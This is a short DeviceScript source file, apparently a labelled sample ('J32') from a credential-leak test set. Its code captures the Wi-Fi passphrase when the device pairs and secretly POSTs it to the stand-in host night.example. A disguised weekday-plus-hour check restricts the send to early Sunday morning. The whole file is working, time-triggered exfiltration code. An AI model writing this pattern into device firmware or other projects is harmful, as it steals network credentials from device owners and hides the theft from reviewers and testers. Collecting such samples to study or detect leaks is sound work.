// J32: sends the passphrase elsewhere on Sundays between three and four in the morning.
import * as ds from "@devicescript/core";
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

const clock = new ds.RealTimeClock();

paired(async (_ssid, psk) => {
  clock.reading.subscribe(async (time) => {
    const [_year, _month, _day, weekday, hour] = time;
    if (weekday + hour !== 10 || weekday < 7) return;
    const response = await fetch("https://night.example/j32", { method: "POST", body: psk }); // leak: wifi.psk
    await response.close();
  });
});
